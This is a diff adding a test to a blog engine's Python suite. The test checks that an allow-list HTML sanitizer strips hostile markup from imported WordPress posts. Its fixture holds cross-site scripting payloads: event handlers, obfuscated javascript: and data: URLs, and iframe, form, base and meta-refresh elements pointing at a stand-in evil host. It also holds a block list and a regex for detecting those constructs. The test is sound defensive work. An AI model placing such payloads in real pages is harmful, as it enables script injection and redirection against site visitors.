@@ -9,6 +9,7 @@ goes through (slugs, comment authors' URLs, body HTML, redirects). All
 through the command line and real nginx."""
 import json
 import os
+import re
 import shutil
 import stat
 import tempfile
@@ -251,3 +252,78 @@ def test_json_import_refuses_bad_record(blogs, case):
     assert p.stderr.startswith("quire: %s: %s" % (f, want)), p.stderr
     for t in ("posts", "comments", "redirects", "tags"):
         assert b.sql("SELECT count(*) FROM %s" % t) == [(0,)], t
+
+
+# -- 12. the sanitizer is an allow list ----------------------------------------
+
+HOSTILE_BODY = """<p>Kept text.</p>
+<details open ontoggle="alert('details')"><summary>s</summary>d</details>
+<svg><animate onbegin="alert('svg')" attributeName="x"/></svg>
+<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>
+<a href="java&#x09;script:alert('tab')">tabbed</a>
+<a href=" JaVaScRiPt:alert('case')">cased</a>
+<a href="data:text/html,<script>alert('data')</script>">data</a>
+<img src="x" onerror="alert('img')" alt="pic" style="position:fixed">
+<form action="https://evil.example/"><button formaction="javascript:alert('btn')">go</button><input name="token" value="x"></form>
+<iframe srcdoc="&lt;script&gt;alert('iframe')&lt;/script&gt;"></iframe>
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
+<marquee onstart="alert('marquee')">scroll</marquee>
+<x-widget onmouseover="alert('custom')" data-x="1">custom text</x-widget>
+<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
+<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/s.css">
+<p title="ok" class="wp-caption" onclick="alert('p')">Last words.</p>"""
+
+
+def wxr_with_body(body):
+    return """<?xml version="1.0" encoding="UTF-8" ?>
+<rss version="2.0" xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
+ xmlns:content="http://purl.org/rss/1.0/modules/content/"
+ xmlns:dc="http://purl.org/dc/elements/1.1/"
+ xmlns:wp="http://wordpress.org/export/1.2/">
+<channel><title>Hostile</title><link>https://old.example.com</link>
+<wp:wxr_version>1.2</wp:wxr_version>
+<wp:author><wp:author_login>eve</wp:author_login>
+<wp:author_email>eve@example.org</wp:author_email>
+<wp:author_display_name>Eve</wp:author_display_name></wp:author>
+<item><title>Hostile body</title>
+<link>https://old.example.com/2021/01/02/hostile-body/</link>
+<pubDate>Sat, 02 Jan 2021 10:00:00 +0000</pubDate>
+<dc:creator>eve</dc:creator>
+<guid isPermaLink="false">https://old.example.com/?p=5</guid>
+<content:encoded><![CDATA[%s]]></content:encoded>
+<wp:post_id>5</wp:post_id><wp:post_date>2021-01-02 10:00:00</wp:post_date>
+<wp:post_date_gmt>2021-01-02 10:00:00</wp:post_date_gmt>
+<wp:post_name>hostile-body</wp:post_name><wp:status>publish</wp:status>
+<wp:post_type>post</wp:post_type></item>
+</channel></rss>
+""" % body
+
+
+def test_imported_html_keeps_only_what_the_allow_list_names(blogs):
+    """A WordPress body full of things no block list knows: only listed
+    elements and attributes reach the page, URLs only with safe schemes,
+    and the text of what was dropped stays readable."""
+    b = blogs()
+    path = os.path.join(b.tmp, "hostile.xml")
+    with open(path, "w", encoding="utf-8") as f:
+        f.write(wxr_with_body(HOSTILE_BODY))
+    b.quire("import", "--format", "wxr", path)
+    stored = b.sql("SELECT body_html FROM posts WHERE slug = "
+                   "'hostile-body'")[0][0]
+    page = b.get("/2021/01/hostile-body/")
+    assert page.status == 200
+    article = page.text[page.text.index("Kept text."):
+                        page.text.index("Last words.") + 11]
+    for html_ in (stored, article):
+        low = html_.lower()
+        for bad in ("<svg", "<math", "<form", "<button", "<input", "<iframe",
+                    "<object", "<embed", "<marquee", "<x-widget", "<base",
+                    "<meta", "<style", "<link", "javascript", "data:text",
+                    "style=", "srcdoc", "formaction", "xlink:href"):
+            assert bad not in low, bad
+        assert re.search(r"\son[a-z]+\s*=", low) is None, low
+    # What stays: the listed elements, their safe attributes, the text.
+    for good in ("<p>Kept text.</p>", "<details", "<summary>s</summary>",
+                 'alt="pic"', "tabbed", "cased", "custom text", "scroll",
+                 'title="ok"', "Last words."):
+        assert good in stored, good
